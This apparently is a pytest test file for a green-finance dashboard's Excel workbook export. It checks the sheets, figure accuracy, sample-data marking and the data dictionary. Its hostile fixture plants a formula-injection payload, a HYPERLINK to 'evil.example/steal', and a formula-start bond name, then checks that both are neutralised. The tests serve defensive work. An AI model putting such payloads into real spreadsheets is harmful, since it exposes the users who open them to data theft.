"""The whole-dataset workbook (dashboard/workbook.py) on files the real pipeline published: opened with openpyxl,
one sheet per mart and the data dictionary, every figure equal to the mart it comes from, the sample marked on
every sheet, and text from the data never a formula."""
from __future__ import annotations

import datetime as dt
import decimal
import io
import shutil

import duckdb
import openpyxl
import pytest

from dashboard import data, workbook
from scripts.configuration import db
from dashboard.safe_text import spreadsheet_cell
from tests.conftest import REPO_ROOT
from tests.dbt_docs import mart_models, rendered

# The marts leaders and analysts use (issue 16): each must be a sheet of the workbook.
REQUIRED_MARTS = ["fct_indicator_progress", "fct_indicator_progress_latest", "fct_region_credit_quarterly",
                  "fct_green_loans_quarterly", "fct_total_loans_quarterly", "fct_green_bonds",
                  "fct_regional_indicators_annual", "fct_region_comparison", "fct_task_status", "dim_indicator",
                  "dim_region", "dim_institution"]
HEADER_ROW = 2  # under the sample mark
SAMPLE_MARK = {"zh": "示例数据（合成），非官方统计", "en": "Sample data (synthetic), not official statistics"}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal","点击查看")'
HOSTILE_BOND = "@SUM(1+1)\x07"


def build(monkeypatch_context, db_path, lang: str) -> openpyxl.Workbook:
    monkeypatch_context.setenv("GF_DUCKDB_PATH", str(db_path))
    content = workbook.published_workbook(lang)
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.fixture(scope="module")
def sample_workbook(published_sample) -> tuple[openpyxl.Workbook, object]:
    with pytest.MonkeyPatch.context() as patch:
        return build(patch, published_sample[0], "zh"), published_sample[0]


@pytest.fixture(scope="module")
def hostile_workbook(published_sample, tmp_path_factory) -> openpyxl.Workbook:
    """The sample with a formula for Guang'an's name and a bond name with a formula start and a control
    character, as a steward's submission could carry them; in English."""
    db_path = tmp_path_factory.mktemp("hostile_workbook") / "greenfinance.duckdb"
    shutil.copy(published_sample[0], db_path)
    with duckdb.connect(str(db_path)) as connection:
        connection.execute("use marts")
        connection.execute("update dim_region set region_name_en = ? where region_code = '511600'", [HOSTILE_NAME])
        connection.execute("update fct_green_bonds set bond_name = ? where bond_code = (select min(bond_code) "
                           "from fct_green_bonds)", [HOSTILE_BOND])
    with pytest.MonkeyPatch.context() as patch:
        return build(patch, db_path, "en")


def rows_of(sheet) -> tuple[list[str], list[tuple]]:
    rows = list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))
    return list(rows[0]), rows[1:]


def test_the_workbook_has_the_about_sheet_one_sheet_per_mart_and_the_dictionary(sample_workbook):
    book, _ = sample_workbook
    assert set(REQUIRED_MARTS) <= set(data.WORKBOOK_MART_SQL)
    assert book.sheetnames == ["说明", *data.WORKBOOK_MART_SQL, "数据字典"]


def test_every_figure_equals_its_mart(sample_workbook):
    """Every cell of every mart sheet against the mart read straight from the file: numbers within 1e-9 and
    typed as numbers, dates as real dates, empty values as empty cells, text as written (neutralised if it
    would run as a formula). Rows are matched on each mart's key, its first column."""
    book, db_path = sample_workbook
    with db.reading_marts(db_path) as connection:
        for mart in data.WORKBOOK_MART_SQL:
            relation = connection.table(mart)
            expected = {row[0]: row for row in relation.fetchall()}
            header, rows = rows_of(book[mart])
            assert header == relation.columns, mart
            assert len(rows) == len(expected) and {row[0] for row in rows} == set(expected), mart
            for row in rows:
                for column, cell, value in zip(header, row, expected[row[0]]):
                    where = (mart, row[0], column)
                    if value is None:
                        assert cell is None, where
                    elif isinstance(value, bool):
                        assert cell is value, where
                    elif isinstance(value, (int, float, decimal.Decimal)):
                        assert isinstance(cell, (int, float)) and not isinstance(cell, bool), where
                        assert abs(cell - float(value)) <= 1e-9, where
                    elif isinstance(value, dt.date):
                        assert isinstance(cell, dt.datetime) and cell.date() == value, where
                    else:
                        assert cell == spreadsheet_cell(str(value)), where
    # The leaders' two key marts are not empty: the comparison above compared something.
    assert len(rows_of(book["fct_indicator_progress_latest"])[1]) >= 10
    assert len(rows_of(book["fct_region_credit_quarterly"])[1]) >= 20


def test_the_sample_is_marked_on_every_sheet_and_the_about_sheet_says_when_and_as_of(sample_workbook):
    book, db_path = sample_workbook
    for sheet in book:
        assert SAMPLE_MARK["zh"] in sheet["A1"].value or SAMPLE_MARK["zh"] in sheet["A2"].value, sheet.title
    about = [row for row in book["说明"].iter_rows(values_only=True)]
    published = next(row[1] for row in about if row[0] == "数据发布时间")
    assert published == dt.datetime.fromtimestamp(db_path.stat().st_mtime).replace(microsecond=0)
    as_of = {(row[0], row[1]): row[2] for row in about if row[0] and str(row[0]).startswith("金融机构绿色贷款")}
    assert isinstance(as_of[("金融机构绿色贷款专项统计", "长寿区")], dt.datetime)
    credit_rows = len(rows_of(book["fct_region_credit_quarterly"])[1])
    assert ("fct_region_credit_quarterly", credit_rows) in {(row[0], row[1]) for row in about}


def test_the_dictionary_describes_every_column_as_the_models_document_it(sample_workbook):
    """The dictionary is read from the published file (dbt's persisted comments): it must say what
    marts' yml says, for every mart and column, and （未描述） where the yml says nothing."""
    book, _ = sample_workbook
    header, rows = rows_of(book["数据字典"])
    assert header == ["工作表", "列", "数据类型", "单位", "说明", "粒度（每行代表）"]
    entries = {(row[0], row[1]): dict(zip(header, row)) for row in rows}
    documented = {model["name"]: model for model in mart_models()}
    for mart in data.WORKBOOK_MART_SQL:
        model = documented[mart]
        assert entries[(mart, "（整表）")]["说明"] == one_line(model["description"]), mart
        described = {column["name"]: one_line(rendered(column["description"]))
                     for column in model.get("columns", []) if column.get("description")}
        columns = rows_of(book[mart])[0]
        assert {column for sheet, column in entries if sheet == mart} == {"（整表）", *columns}, mart
        for column in columns:
            assert entries[(mart, column)]["说明"] == described.get(column, "（未描述）"), (mart, column)
            assert entries[(mart, column)]["粒度（每行代表）"].startswith("one row per"), (mart, column)
    assert entries[("fct_region_credit_quarterly", "green_loan_share_pct")]["单位"] == "%"
    assert entries[("fct_region_credit_quarterly", "green_loan_balance_100m_cny")]["单位"] == "亿元"
    assert entries[("fct_regional_indicators_annual", "co2_emissions_10k_t")]["单位"] == "万吨"
    assert entries[("fct_regional_indicators_annual", "energy_consumption_10k_tce")]["单位"] == "万吨标准煤"
    assert entries[("fct_region_credit_quarterly", "region_code")]["单位"] is None


def one_line(text: str) -> str:
    return " ".join(text.split())


def test_no_cell_is_a_formula_or_says_none_or_nan(sample_workbook, hostile_workbook):
    for book in (sample_workbook[0], hostile_workbook):
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    assert cell.value not in ("None", "nan", "NaN", "NaT", "<NA>"), (sheet.title, cell.coordinate)


def test_hostile_text_comes_out_neutralised_in_english(hostile_workbook):
    assert hostile_workbook.sheetnames[0] == "About" and hostile_workbook.sheetnames[-1] == "Data dictionary"
    assert SAMPLE_MARK["en"] in hostile_workbook["About"]["A2"].value
    header, rows = rows_of(hostile_workbook["dim_region"])
    guangan = next(row for row in rows if row[header.index("region_code")] == "511600")
    assert guangan[header.index("region_name_en")] == "'" + HOSTILE_NAME
    about = [cell for row in hostile_workbook["About"].iter_rows() for cell in row]
    assert any(cell.value == "'" + HOSTILE_NAME and cell.data_type == "s" for cell in about)  # the as-of table
    header, rows = rows_of(hostile_workbook["fct_green_bonds"])
    assert "'@SUM(1+1)\ufffd" in [row[header.index("bond_name")] for row in rows]
